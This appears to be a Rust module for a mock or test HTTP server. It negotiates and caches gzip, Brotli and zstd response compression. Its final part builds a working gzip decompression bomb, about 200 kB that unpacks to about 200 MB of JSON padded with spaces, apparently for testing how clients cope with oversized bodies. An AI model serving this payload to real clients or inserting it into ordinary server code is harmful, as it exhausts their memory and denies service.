//! Content encodings, and the body that is small until it is unpacked.

use std::{
    collections::HashMap,
    io::{self, Write},
    sync::OnceLock,
};

use bytes::Bytes;
use flate2::{Compress, Compression, Crc, FlushCompress, write::GzEncoder};

use super::http::{Answer, Request};

/// Bodies below this stay as they are (default of Express' `compression`).
const BYTES_MIN: usize = 1024;

/// A content encoding the upstream may use.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
pub enum Encoding {
    /// `gzip`.
    Gzip,
    /// `br`.
    Brotli,
    /// `zstd`.
    Zstd,
}

impl Encoding {
    fn name(self) -> &'static str {
        match self {
            Self::Gzip => "gzip",
            Self::Brotli => "br",
            Self::Zstd => "zstd",
        }
    }

    fn encode(self, plain: &[u8]) -> io::Result<Vec<u8>> {
        match self {
            Self::Gzip => {
                let mut encoder = GzEncoder::new(Vec::new(), Compression::fast());
                encoder.write_all(plain)?;
                encoder.finish()
            }
            Self::Brotli => {
                let mut packed = Vec::new();
                let params = brotli::enc::BrotliEncoderParams {
                    quality: 3,
                    ..Default::default()
                };
                brotli::BrotliCompress(&mut &plain[..], &mut packed, &params)?;
                Ok(packed)
            }
            Self::Zstd => zstd::encode_all(plain, 1),
        }
    }
}

/// Encoded bodies by validator, so that a large payload is packed once per change.
#[derive(Debug, Default)]
pub(super) struct Compressed(HashMap<(String, Encoding), Bytes>);

impl Compressed {
    pub(super) fn clear(&mut self) {
        self.0.clear();
    }
}

/// Encodes an answer's body with the best of `offered` that the caller takes.
pub(super) fn encode(
    answer: &mut Answer,
    request: &Request,
    offered: &[Encoding],
    cache: &mut Compressed,
) {
    let is_encoded = answer.headers.iter().any(|(n, _)| *n == "Content-Encoding");
    if is_encoded || answer.status != 200 {
        return;
    }
    answer.set("Vary", "Accept-Encoding");
    let accepted = request.header("accept-encoding").unwrap_or("");
    let Some(encoding) = offered.iter().copied().find(|e| accepts(accepted, *e)) else {
        return;
    };
    if answer.body.len() < BYTES_MIN {
        return;
    }
    let packed = match &answer.etag {
        Some(etag) => match cache.0.get(&(etag.clone(), encoding)) {
            Some(known) => Ok(known.clone()),
            None => encoding.encode(&answer.body).map(|packed| {
                let packed = Bytes::from(packed);
                cache.0.insert((etag.clone(), encoding), packed.clone());
                packed
            }),
        },
        None => encoding.encode(&answer.body).map(Bytes::from),
    };
    // Writing to memory does not fail; should it, identity is right too.
    if let Ok(packed) = packed {
        answer.set("Content-Encoding", encoding.name());
        answer.body = packed;
    }
}

fn accepts(header: &str, encoding: Encoding) -> bool {
    header.split(',').any(|item| {
        let mut parts = item.split(';').map(str::trim);
        let name = parts.next().unwrap_or("");
        let is_refused = parts.any(|part| matches!(part, "q=0" | "q=0.0" | "q=0.00" | "q=0.000"));
        (name.eq_ignore_ascii_case(encoding.name()) || name == "*") && !is_refused
    })
}

/// Bytes of one repeated piece of the bomb.
const PIECE_BYTES: usize = 1 << 20;

/// Pieces: some 200 MB when unpacked.
const PIECES: usize = 200;

/// Gzip of a valid payload of about 200 MB, most of it spaces; about 200 kB on the wire.
///
/// Made of one compressed piece repeated: a full flush makes pieces independent of each other.
pub(super) fn gzip_bomb() -> Bytes {
    static BOMB: OnceLock<Bytes> = OnceLock::new();
    BOMB.get_or_init(make_bomb).clone()
}

fn make_bomb() -> Bytes {
    // Header of RFC 1952: magic, deflate, no flags, no time, no hints, unknown system.
    let mut packed = vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255];
    let mut crc = Crc::new();
    let spaces = vec![b' '; PIECE_BYTES];
    append(&mut packed, &mut crc, b"{\"status\":200,\"features\":{", 1);
    append(&mut packed, &mut crc, &spaces, PIECES);
    append(&mut packed, &mut crc, b"}}", 1);
    // An empty last block with fixed codes, then checksum and length.
    packed.extend([3, 0]);
    packed.extend(crc.sum().to_le_bytes());
    packed.extend(crc.amount().to_le_bytes());
    packed.into()
}

fn append(packed: &mut Vec<u8>, crc: &mut Crc, piece: &[u8], times: usize) {
    let mut piece_crc = Crc::new();
    piece_crc.update(piece);
    // Deflate never grows a piece by more than a few bytes per block.
    let mut block = Vec::with_capacity(piece.len() + 1024);
    Compress::new(Compression::best(), false)
        .compress_vec(piece, &mut block, FlushCompress::Full)
        .expect("the compressor is fresh and its output has room");
    for _ in 0..times {
        packed.extend_from_slice(&block);
        crc.combine(&piece_crc);
    }
}
